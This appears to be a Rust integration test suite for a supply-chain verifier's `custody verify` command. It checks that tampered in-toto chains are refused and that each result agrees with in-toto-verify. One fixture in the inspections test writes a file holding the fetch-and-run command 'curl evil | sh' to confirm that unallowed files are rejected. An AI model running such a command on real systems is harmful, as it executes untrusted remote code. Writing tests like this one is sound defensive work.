//! `vouch custody verify` against a supply chain recorded by the PyPI in-toto tools (an
//! independent producer; tests/data/custody_chain.py): keys from securesystemslib, the layout
//! written and signed with in-toto's Python API, each step run with `in-toto-run` on real
//! files. The good chain verifies (and in-toto's own `in-toto-verify` agrees); each refusal is
//! a real tampered input: a missing link, a build run on an altered source, a link renamed to
//! another step, one flipped byte in a signature and in a product hash, a link signed by an
//! unauthorized key, an expired layout, a layout signed by another key. Further, over the
//! five-step chain of custody_svid_chain.py: glob patterns judged by in-toto itself on 1,250
//! cases, inspections (run only with --run-inspections), expected_command, DSSE envelopes,
//! RSA keys, sublayouts; in-toto-verify run on the same inputs each time.
//!
//! Needs target/pyenv with `in-toto` (scripts/deps.sh --test installs it).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use base64::Engine as _;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

const VOUCH: &str = env!("CARGO_BIN_EXE_vouch");

fn pyenv() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/pyenv/bin")
}

/// The chain, made once for all tests: OUT/good, OUT/altered, OUT/mallory, keys, layouts.
fn chain() -> PathBuf {
    static DIR: OnceLock<tempfile::TempDir> = OnceLock::new();
    DIR.get_or_init(|| {
        let python = pyenv().join("python3");
        assert!(
            python.exists(),
            "{} is missing: run `bash scripts/deps.sh --test` (it installs the PyPI in-toto package)",
            python.display()
        );
        let dir = tempfile::tempdir().unwrap();
        let o = Command::new(&python)
            .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/custody_chain.py"))
            .arg(dir.path().join("c"))
            .output()
            .unwrap();
        assert!(
            o.status.success(),
            "custody_chain.py failed (is in-toto installed in target/pyenv? scripts/deps.sh --test): {}",
            String::from_utf8_lossy(&o.stderr)
        );
        dir
    })
    .path()
    .join("c")
}

fn expected() -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(chain().join("expected.json")).unwrap()).unwrap()
}

/// A copy of the good chain (layout and links) to tamper with.
fn copy_good() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    for e in std::fs::read_dir(chain().join("good")).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), d.path().join(e.file_name())).unwrap();
    }
    d
}

fn link_name(step: &str, who: &str) -> String {
    let kid = expected()[who].as_str().unwrap().to_owned();
    format!("{step}.{}.link", &kid[..8])
}

/// `vouch custody verify` of layout `layout` with links in `links`: (exit code, stderr).
fn verify(layout: &Path, links: &Path) -> (i32, String) {
    let o = Command::new(VOUCH)
        .args(["custody", "verify", "--layout"])
        .arg(layout)
        .arg("--layout-key")
        .arg(chain().join("owner.pub"))
        .arg("--links")
        .arg(links)
        .env_remove("VOUCH_CONFIG")
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

fn refused(layout: &Path, links: &Path, why: &str) {
    let (code, err) = verify(layout, links);
    assert_eq!(code, 1, "expected refusal ({why}), got {code}: {err}");
    assert!(err.contains(why), "expected {why:?} in {err:?}");
}

/// in-toto's own verifier on the same files: its exit code.
fn in_toto_verify(layout: &Path, links: &Path) -> i32 {
    Command::new(pyenv().join("in-toto-verify"))
        .arg("--layout")
        .arg(layout)
        .arg("--verification-keys")
        .arg(chain().join("owner.pub"))
        .arg("--link-dir")
        .arg(links)
        .output()
        .unwrap()
        .status
        .code()
        .unwrap_or(-1)
}

/// Rewrite a JSON file through `f` (whitespace changes do not matter: signatures are over
/// canonical JSON).
fn edit(path: &Path, f: impl FnOnce(&mut serde_json::Value)) {
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    f(&mut v);
    std::fs::write(path, serde_json::to_vec_pretty(&v).unwrap()).unwrap();
}

/// One hex digit changed: one byte of what it encodes flipped.
fn flip_hex(s: &str, at: usize) -> String {
    let mut c: Vec<char> = s.chars().collect();
    c[at] = if c[at] == '0' { '1' } else { '0' };
    c.into_iter().collect()
}

#[test]
fn good_chain_verifies_and_in_toto_verify_agrees() {
    let d = copy_good();
    let layout = d.path().join("root.layout");
    let (code, err) = verify(&layout, d.path());
    assert_eq!(code, 0, "{err}");
    assert_eq!(in_toto_verify(&layout, d.path()), 0);
    // JSON output for pipelines.
    let o = Command::new(VOUCH)
        .args(["--json", "custody", "verify", "--layout"])
        .arg(&layout)
        .arg("--layout-key")
        .arg(chain().join("owner.pub"))
        .arg("--links")
        .arg(d.path())
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["verified"], true);
    assert_eq!(
        v["steps"],
        serde_json::json!(["source", "build", "package"])
    );
    // Reformatted (pretty-printed, keys reordered by serde) but not altered: still verifies,
    // since signatures are over the canonical JSON of `signed`.
    edit(&d.path().join(link_name("package", "bob")), |_| {});
    edit(&layout, |_| {});
    let (code, err) = verify(&layout, d.path());
    assert_eq!(code, 0, "{err}");
}

#[test]
fn missing_step_is_refused() {
    let d = copy_good();
    let layout = d.path().join("root.layout");
    std::fs::remove_file(d.path().join(link_name("build", "alice"))).unwrap();
    refused(
        &layout,
        d.path(),
        "step build: 0 valid link(s), threshold 1",
    );
    assert_ne!(in_toto_verify(&layout, d.path()), 0);
}

#[test]
fn altered_step_is_refused() {
    // A build link validly signed by alice, but run on a source changed after the source
    // step: its materials are not the source step's products.
    let d = copy_good();
    let layout = d.path().join("root.layout");
    let name = link_name("build", "alice");
    std::fs::copy(chain().join("altered").join(&name), d.path().join(&name)).unwrap();
    refused(
        &layout,
        d.path(),
        "step build: materials \"src/hello.sh\" is disallowed",
    );
    assert_ne!(in_toto_verify(&layout, d.path()), 0);
}

#[test]
fn link_of_another_step_is_refused() {
    // Reordering: the source link (signed by alice) put in place of the build link (alice
    // is build's functionary too).
    let d = copy_good();
    std::fs::copy(
        d.path().join(link_name("source", "alice")),
        d.path().join(link_name("build", "alice")),
    )
    .unwrap();
    refused(
        &d.path().join("root.layout"),
        d.path(),
        "is not for step build",
    );
}

#[test]
fn flipped_signature_byte_is_refused() {
    let d = copy_good();
    edit(&d.path().join(link_name("source", "alice")), |v| {
        let s = v["signatures"][0]["sig"].as_str().unwrap().to_owned();
        v["signatures"][0]["sig"] = flip_hex(&s, 10).into();
    });
    refused(
        &d.path().join("root.layout"),
        d.path(),
        "step source: 0 valid link(s), threshold 1 (source.",
    );
}

#[test]
fn flipped_product_hash_is_refused() {
    let d = copy_good();
    let layout = d.path().join("root.layout");
    // ECDSA-signed package link: a product hash changed.
    edit(&d.path().join(link_name("package", "bob")), |v| {
        let h = &mut v["signed"]["products"]["hello.tar.gz"]["sha256"];
        *h = flip_hex(h.as_str().unwrap(), 0).into();
    });
    refused(&layout, d.path(), "no signature by the step's key");
    assert_ne!(in_toto_verify(&layout, d.path()), 0);
    // The same in the layout: an added rule breaks the owner's signature.
    let d = copy_good();
    edit(&d.path().join("root.layout"), |v| {
        v["signed"]["steps"][1]["expected_materials"][0] = serde_json::json!(["ALLOW", "*"]);
    });
    refused(
        &d.path().join("root.layout"),
        d.path(),
        "no signature by layout key 1",
    );
}

#[test]
fn unauthorized_key_is_refused() {
    let d = copy_good();
    let layout = d.path().join("root.layout");
    let mal = link_name("build", "mallory");
    std::fs::remove_file(d.path().join(link_name("build", "alice"))).unwrap();
    // Under its own name it is not even looked at; under alice's it does not verify.
    std::fs::copy(chain().join("mallory").join(&mal), d.path().join(&mal)).unwrap();
    refused(
        &layout,
        d.path(),
        "step build: 0 valid link(s), threshold 1 (no link found)",
    );
    std::fs::rename(
        d.path().join(&mal),
        d.path().join(link_name("build", "alice")),
    )
    .unwrap();
    refused(&layout, d.path(), "no signature by the step's key");
}

#[test]
fn expired_or_foreign_layout_is_refused() {
    let d = copy_good();
    refused(
        &chain().join("expired.layout"),
        d.path(),
        "layout expired at 2020-01-01T00:00:00Z",
    );
    assert_ne!(in_toto_verify(&chain().join("expired.layout"), d.path()), 0);
    refused(
        &chain().join("other.layout"),
        d.path(),
        "no signature by layout key 1 verifies",
    );
    assert_ne!(in_toto_verify(&chain().join("other.layout"), d.path()), 0);
}

#[test]
fn a_layout_with_inspections_is_refused_not_skipped_unless_they_run() {
    // Validly signed by the owner, with an inspection (a command to run): without
    // --run-inspections refused, whereas skipping it would accept a chain the layout's owner
    // wanted checked further.
    let d = copy_good();
    refused(
        &chain().join("inspect.layout"),
        d.path(),
        "it has inspections, which run commands; give --run-inspections DIR",
    );
}

/// Glob patterns in artifact rules: for each (pattern, artifact name) case of
/// tests/data/custody_glob_cases.py (50 patterns, among them sets, negated sets, ranges,
/// reversed ranges, unclosed brackets, backslashes), a layout with `ALLOW pattern, DISALLOW *`
/// over a link with that one product (19 names), and a layout whose MATCH rule has source and
/// destination prefixes (6 names), judged by in-toto 3.0.0's own verification: `vouch custody
/// verify` must agree on all 1,250 cases (ran in 4 threads).
#[test]
fn glob_rules_agree_with_in_toto() {
    let python = pyenv().join("python3");
    assert!(python.exists(), "run `bash scripts/deps.sh --test`");
    let dir = tempfile::tempdir().unwrap();
    let o = Command::new(&python)
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/custody_glob_cases.py"))
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let cases: Vec<serde_json::Value> =
        serde_json::from_slice(&std::fs::read(dir.path().join("cases.json")).unwrap()).unwrap();
    assert!(cases.len() >= 1200, "{}", cases.len());
    let passes = cases.iter().filter(|c| c["in_toto"] == "pass").count();
    // Both outcomes are well represented, so agreement is not agreement on one answer.
    assert!(passes > 100 && passes < cases.len() - 100, "{passes}");
    let owner = dir.path().join("owner.pub");
    let chunks: Vec<Vec<serde_json::Value>> = cases
        .chunks(cases.len().div_ceil(4))
        .map(<[_]>::to_vec)
        .collect();
    let disagreements: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = chunks
            .iter()
            .map(|chunk| {
                let owner = owner.clone();
                s.spawn(move || {
                    let mut bad = Vec::new();
                    for c in chunk {
                        let d = Path::new(c["dir"].as_str().unwrap());
                        let o = Command::new(VOUCH)
                            .args(["custody", "verify", "--layout"])
                            .arg(d.join("root.layout"))
                            .arg("--layout-key")
                            .arg(&owner)
                            .arg("--links")
                            .arg(d)
                            .env_remove("VOUCH_CONFIG")
                            .output()
                            .unwrap();
                        let code = o.status.code().unwrap_or(-1);
                        let want = if c["in_toto"] == "pass" { 0 } else { 1 };
                        if code != want {
                            bad.push(format!(
                                "pattern {} name {}: in-toto {}, vouch exit {code}: {}",
                                c["pattern"],
                                c["name"],
                                c["in_toto"],
                                String::from_utf8_lossy(&o.stderr).trim()
                            ));
                        }
                    }
                    bad
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().unwrap())
            .collect()
    });
    assert!(
        disagreements.is_empty(),
        "{} of {} cases disagree:\n{}",
        disagreements.len(),
        cases.len(),
        disagreements.join("\n")
    );
}

/// The five-step chain of tests/data/custody_svid_chain.py (source -> build -> test ->
/// package -> deploy, each step run by `in-toto-run`), made once.
fn five() -> PathBuf {
    static DIR: OnceLock<tempfile::TempDir> = OnceLock::new();
    DIR.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        let o = Command::new(pyenv().join("python3"))
            .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/custody_svid_chain.py"))
            .arg(dir.path().join("c"))
            .arg("spiffe://example.org/ci/builder")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        dir
    })
    .path()
    .join("c")
}

/// `vouch custody verify` of a five() layout over five()/good with `extra` flags:
/// (exit code, stdout + stderr).
fn verify5(layout: &str, extra: &[&std::ffi::OsStr]) -> (i32, String) {
    let o = Command::new(VOUCH)
        .args(["custody", "verify", "--layout"])
        .arg(five().join(layout))
        .arg("--layout-key")
        .arg(five().join("owner.pub"))
        .arg("--links")
        .arg(five().join("good"))
        .args(extra)
        .env_remove("VOUCH_CONFIG")
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        ),
    )
}

/// in-toto-verify of a five() layout over five()/good, run in `cwd` (where it runs
/// inspections).
fn in_toto_verify5(layout: &str, cwd: &Path) -> i32 {
    Command::new(pyenv().join("in-toto-verify"))
        .current_dir(cwd)
        .arg("--layout")
        .arg(five().join(layout))
        .arg("--verification-keys")
        .arg(five().join("owner.pub"))
        .arg("--link-dir")
        .arg(five().join("good"))
        .output()
        .unwrap()
        .status
        .code()
        .unwrap_or(-1)
}

/// Inspections run only when asked (`--run-inspections DIR`), as in-toto runs them: the
/// directory recorded before and after the command, the command's exit status, then the
/// inspection's artifact rules (here: the package is the package step's product, and
/// unpacking it gives the build and test steps' products). Each refusal: a real input that
/// in-toto-verify refuses too.
#[test]
fn inspections_run_only_when_asked_and_hold_like_in_toto() {
    let os = |s: &Path| s.as_os_str().to_owned();
    // Not asked: refused, not skipped.
    let (code, out) = verify5("inspect.layout", &[]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("give --run-inspections DIR"), "{out}");

    // `vouch custody verify --run-inspections` of inspect.layout in a directory `prepare`
    // filled, and in-toto-verify in another filled the same way: vouch's exit code, output
    // and directory, and in-toto-verify's exit code.
    let both = |prepare: &dyn Fn(&Path)| {
        let d = tempfile::tempdir().unwrap();
        prepare(d.path());
        let (code, out) = verify5(
            "inspect.layout",
            &["--run-inspections".as_ref(), &os(d.path())],
        );
        let d2 = tempfile::tempdir().unwrap();
        prepare(d2.path());
        (code, out, d, in_toto_verify5("inspect.layout", d2.path()))
    };
    let package = |d: &Path| {
        std::fs::copy(five().join("app.tar.gz"), d.join("app.tar.gz")).unwrap();
    };

    // The deployed package, unpacked and checked.
    let (code, out, d, in_toto) = both(&package);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("deploy -> inspect:untar"), "{out}");
    assert!(d.path().join("build/app.out").exists());
    assert_eq!(in_toto, 0);

    // One flipped byte in the package: not the package step's product.
    let flipped = |d: &Path| {
        let mut b = std::fs::read(five().join("app.tar.gz")).unwrap();
        let mid = b.len() / 2;
        b[mid] ^= 1;
        std::fs::write(d.join("app.tar.gz"), b).unwrap();
    };
    let (code, out, _, in_toto) = both(&flipped);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("inspection untar: [\"tar\", \"xzf\", \"app.tar.gz\"] exited with"),
        "{out}"
    );
    assert_ne!(in_toto, 0);

    // A package that unpacks fine (the same files, packed again) but is not the package
    // step's product: the inspection's MATCH does not consume it.
    let repack = |d: &Path| {
        let o = Command::new("tar")
            .arg("-C")
            .arg(five().join("work"))
            .arg("-czf")
            .arg(d.join("app.tar.gz"))
            .args(["test", "build"])
            .output()
            .unwrap();
        assert!(o.status.success());
    };
    let (code, out, _, in_toto) = both(&repack);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("untar: materials \"app.tar.gz\" is disallowed"),
        "{out}"
    );
    assert_ne!(in_toto, 0);

    // A file beside the package that no rule allows.
    let (code, out, _, in_toto) = both(&|d: &Path| {
        package(d);
        std::fs::write(d.join("evil.sh"), b"curl evil | sh\n").unwrap();
    });
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("untar: materials \"evil.sh\" is disallowed"),
        "{out}"
    );
    assert_ne!(in_toto, 0);

    // An inspection that runs past the timeout is killed and refused.
    let d = tempfile::tempdir().unwrap();
    let t = std::time::Instant::now();
    let (code, out) = verify5(
        "slow.layout",
        &[
            "--run-inspections".as_ref(),
            &os(d.path()),
            "--inspection-timeout".as_ref(),
            "1".as_ref(),
        ],
    );
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("inspection slow: [\"sleep\", \"30\"] still running after 1 s, killed"),
        "{out}"
    );
    assert!(t.elapsed() < std::time::Duration::from_secs(10));
}

/// `expected_command`: in-toto warns when a link's command differs; Vouch warns too, and
/// refuses with --require-expected-command.
#[test]
fn expected_command_warns_or_refuses_when_asked() {
    let (code, out) = verify5("cmd.layout", &[]);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("warning: step test: the link's command")
            && out.contains("[\"make\", \"test\"]"),
        "{out}"
    );
    // build's expected command is the one recorded: no warning for it.
    assert!(!out.contains("step build: the link's command"), "{out}");
    let d = tempfile::tempdir().unwrap();
    assert_eq!(in_toto_verify5("cmd.layout", d.path()), 0);
    let (code, out) = verify5("cmd.layout", &["--require-expected-command".as_ref()]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("refused: step test: the link's command"),
        "{out}"
    );
    // The five-step chain itself, keyed: verifies in both.
    let (code, out) = verify5("keyed.layout", &[]);
    assert_eq!(code, 0, "{out}");
    assert!(!out.contains("warning"), "{out}");
    assert_eq!(in_toto_verify5("keyed.layout", d.path()), 0);
}

/// Layouts and links as DSSE envelopes (`in-toto-run --use-dsse`, the layout through
/// in-toto's `Envelope`): each combination with the metablock forms verifies in Vouch and in
/// in-toto-verify; a product hash changed inside a link's payload, one flipped signature byte,
/// another payloadType, and a rule loosened inside the layout's payload are refused (in-toto
/// agrees where it reads the input).
#[test]
fn dsse_envelopes_verify_like_in_toto() {
    let run = |layout: &Path, links: &Path| -> (i32, String) {
        let o = Command::new(VOUCH)
            .args(["custody", "verify", "--layout"])
            .arg(layout)
            .arg("--layout-key")
            .arg(five().join("owner.pub"))
            .arg("--links")
            .arg(links)
            .env_remove("VOUCH_CONFIG")
            .output()
            .unwrap();
        (
            o.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        )
    };
    let itv = |layout: &Path, links: &Path| -> i32 {
        Command::new(pyenv().join("in-toto-verify"))
            .arg("--layout")
            .arg(layout)
            .arg("--verification-keys")
            .arg(five().join("owner.pub"))
            .arg("--link-dir")
            .arg(links)
            .output()
            .unwrap()
            .status
            .code()
            .unwrap_or(-1)
    };
    for layout in ["keyed.layout", "keyed-dsse.layout"] {
        for links in ["good", "dsse"] {
            let (l, d) = (five().join(layout), five().join(links));
            let (code, err) = run(&l, &d);
            assert_eq!(code, 0, "{layout} {links}: {err}");
            assert_eq!(itv(&l, &d), 0, "{layout} {links}");
        }
    }
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let unb64 = |s: &serde_json::Value| {
        base64::engine::general_purpose::STANDARD
            .decode(s.as_str().unwrap())
            .unwrap()
    };
    let copy = || {
        let d = tempfile::tempdir().unwrap();
        for e in std::fs::read_dir(five().join("dsse")).unwrap() {
            let e = e.unwrap();
            std::fs::copy(e.path(), d.path().join(e.file_name())).unwrap();
        }
        d
    };
    let build_link = |d: &Path| {
        std::fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| {
                p.file_name()
                    .unwrap()
                    .to_string_lossy()
                    .starts_with("build.")
            })
            .unwrap()
    };
    let layout = five().join("keyed.layout");
    // A product hash changed inside the payload.
    let d = copy();
    edit(&build_link(d.path()), |v| {
        let mut p: serde_json::Value = serde_json::from_slice(&unb64(&v["payload"])).unwrap();
        let h = &mut p["products"]["build/app.out"]["sha256"];
        *h = flip_hex(h.as_str().unwrap(), 0).into();
        v["payload"] = b64(&serde_json::to_vec(&p).unwrap()).into();
    });
    let (code, err) = run(&layout, d.path());
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("no signature by the step's key"), "{err}");
    assert_ne!(itv(&layout, d.path()), 0);
    // One flipped byte of the signature.
    let d = copy();
    edit(&build_link(d.path()), |v| {
        let mut s = unb64(&v["signatures"][0]["sig"]);
        s[5] ^= 1;
        v["signatures"][0]["sig"] = b64(&s).into();
    });
    let (code, err) = run(&layout, d.path());
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("no signature by the step's key"), "{err}");
    assert_ne!(itv(&layout, d.path()), 0);
    // Another payload type: not in-toto metadata.
    let d = copy();
    edit(&build_link(d.path()), |v| {
        v["payloadType"] = "application/vnd.in-toto.other+json".into();
    });
    let (code, err) = run(&layout, d.path());
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("is not \"application/vnd.in-toto+json\""),
        "{err}"
    );
    // The DSSE layout with build's materials rule loosened inside its payload.
    let d = tempfile::tempdir().unwrap();
    let lay = d.path().join("loosened.layout");
    std::fs::copy(five().join("keyed-dsse.layout"), &lay).unwrap();
    edit(&lay, |v| {
        let mut p: serde_json::Value = serde_json::from_slice(&unb64(&v["payload"])).unwrap();
        p["steps"][1]["expected_materials"] = serde_json::json!([["ALLOW", "*"]]);
        v["payload"] = b64(&serde_json::to_vec(&p).unwrap()).into();
    });
    let (code, err) = run(&lay, &five().join("dsse"));
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("no signature by layout key 1"), "{err}");
    assert_ne!(itv(&lay, &five().join("dsse")), 0);
}

/// RSA keys as securesystemslib makes them: a layout signed by an RSA owner (read from its
/// PEM, as in-toto-verify does, as RSASSA-PSS), build's functionary an RSA-PSS key and
/// deploy's an RSA PKCS#1 v1.5 key. The chain verifies in both verifiers; one flipped
/// signature byte in either link, or another owner key, is refused by both.
#[test]
fn rsa_keys_verify_like_in_toto() {
    let layout = five().join("keyed-rsa.layout");
    let run = |links: &Path, owner: &str| -> (i32, String) {
        let o = Command::new(VOUCH)
            .args(["custody", "verify", "--layout"])
            .arg(&layout)
            .arg("--layout-key")
            .arg(five().join(owner))
            .arg("--links")
            .arg(links)
            .env_remove("VOUCH_CONFIG")
            .output()
            .unwrap();
        (
            o.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&o.stderr).into_owned(),
        )
    };
    let itv = |links: &Path, owner: &str| -> i32 {
        Command::new(pyenv().join("in-toto-verify"))
            .arg("--layout")
            .arg(&layout)
            .arg("--verification-keys")
            .arg(five().join(owner))
            .arg("--link-dir")
            .arg(links)
            .output()
            .unwrap()
            .status
            .code()
            .unwrap_or(-1)
    };
    let good = five().join("good-rsa");
    let (code, err) = run(&good, "rsa-owner.pub");
    assert_eq!(code, 0, "{err}");
    assert_eq!(itv(&good, "rsa-owner.pub"), 0);
    let (code, err) = run(&good, "owner.pub");
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("no signature by layout key 1"), "{err}");
    assert_ne!(itv(&good, "owner.pub"), 0);
    for step in ["build", "deploy"] {
        let d = tempfile::tempdir().unwrap();
        let mut target = None;
        for e in std::fs::read_dir(&good).unwrap() {
            let e = e.unwrap();
            let to = d.path().join(e.file_name());
            std::fs::copy(e.path(), &to).unwrap();
            if e.file_name()
                .to_string_lossy()
                .starts_with(&format!("{step}."))
            {
                target = Some(to);
            }
        }
        edit(&target.unwrap(), |v| {
            let s = v["signatures"][0]["sig"].as_str().unwrap().to_owned();
            v["signatures"][0]["sig"] = flip_hex(&s, 40).into();
        });
        let (code, err) = run(d.path(), "rsa-owner.pub");
        assert_eq!(code, 1, "{step}: {err}");
        assert!(
            err.contains(&format!("step {step}: 0 valid link(s)")),
            "{step}: {err}"
        );
        assert_ne!(itv(d.path(), "rsa-owner.pub"), 0, "{step}");
    }
}

/// Sublayouts (in-toto's step delegation): super.layout hands the build step to key "sub",
/// whose signed layout (compile, then upcase) is the build link, with its own links in
/// `build.<sub[:8]>/`. The chain verifies in both verifiers; a missing sublayout step, a
/// sublayout step's product hash changed (signature breaks), and the sublayout signed by a key
/// the root layout does not name for build are refused by both.
#[test]
fn sublayouts_verify_like_in_toto() {
    let layout = five().join("super.layout");
    let run = |links: &Path| -> (i32, String) {
        let o = Command::new(VOUCH)
            .args(["custody", "verify", "--layout"])
            .arg(&layout)
            .arg("--layout-key")
            .arg(five().join("owner.pub"))
            .arg("--links")
            .arg(links)
            .env_remove("VOUCH_CONFIG")
            .output()
            .unwrap();
        (
            o.status.code().unwrap_or(-1),
            format!(
                "{}{}",
                String::from_utf8_lossy(&o.stdout),
                String::from_utf8_lossy(&o.stderr)
            ),
        )
    };
    let itv = |links: &Path| -> i32 {
        Command::new(pyenv().join("in-toto-verify"))
            .arg("--layout")
            .arg(&layout)
            .arg("--verification-keys")
            .arg(five().join("owner.pub"))
            .arg("--link-dir")
            .arg(links)
            .output()
            .unwrap()
            .status
            .code()
            .unwrap_or(-1)
    };
    let copy = || {
        let d = tempfile::tempdir().unwrap();
        let st = Command::new("cp")
            .arg("-r")
            .arg(five().join("super/."))
            .arg(d.path())
            .status()
            .unwrap();
        assert!(st.success());
        d
    };
    let sub_dir = |d: &Path| {
        std::fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| p.is_dir())
            .unwrap()
    };
    let find = |d: &Path, prefix: &str| {
        std::fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| p.is_file() && p.file_name().unwrap().to_string_lossy().starts_with(prefix))
            .unwrap()
    };
    let d = copy();
    let (code, out) = run(d.path());
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("source -> build{compile -> upcase} -> test"),
        "{out}"
    );
    assert_eq!(itv(d.path()), 0);

    // A sublayout step missing.
    let d = copy();
    std::fs::remove_file(find(&sub_dir(d.path()), "compile.")).unwrap();
    let (code, out) = run(d.path());
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("(sublayout build.") && out.contains("step compile: 0 valid link(s)"),
        "{out}"
    );
    assert_ne!(itv(d.path()), 0);

    // A sublayout step's product hash changed.
    let d = copy();
    edit(&find(&sub_dir(d.path()), "upcase."), |v| {
        let h = &mut v["signed"]["products"]["build/app.out"]["sha256"];
        *h = flip_hex(h.as_str().unwrap(), 0).into();
    });
    let (code, out) = run(d.path());
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("step upcase: 0 valid link(s)"), "{out}");
    assert_ne!(itv(d.path()), 0);

    // The sublayout's signature by sub replaced by the recorder's (not build's functionary in
    // super.layout): the build link does not count.
    let d = copy();
    let sub_link = find(d.path(), "build.");
    let rec = find(d.path(), "source.");
    edit(&sub_link, |v| {
        let r: serde_json::Value = serde_json::from_slice(&std::fs::read(&rec).unwrap()).unwrap();
        v["signatures"][0]["keyid"] = r["signatures"][0]["keyid"].clone();
        v["signatures"][0]["sig"] = r["signatures"][0]["sig"].clone();
    });
    let (code, out) = run(d.path());
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("step build: 0 valid link(s)"), "{out}");
    assert_ne!(itv(d.path()), 0);
}
